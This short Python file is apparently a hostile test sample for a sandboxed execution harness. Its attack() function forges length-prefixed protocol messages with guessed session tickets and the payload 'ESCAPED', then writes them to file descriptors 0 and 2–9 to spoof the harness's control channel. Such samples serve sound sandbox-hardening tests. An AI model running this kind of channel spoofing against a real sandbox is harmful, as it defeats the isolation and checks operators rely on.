"""Answers calls that it has not been given yet."""


import os
import struct


def attack(t):
    for ticket in (b"\0" * 16, b"\xff" * 16, os.urandom(16)):
        body = ticket + b"v\0\0\0\0s" + struct.pack("<I", 7) + b"ESCAPED"
        for descriptor in (0, *range(2, 10)):
            try:
                os.write(descriptor, struct.pack(">I", len(body)) + body)
            except OSError:
                pass
    return 1


def later(x):
    return x
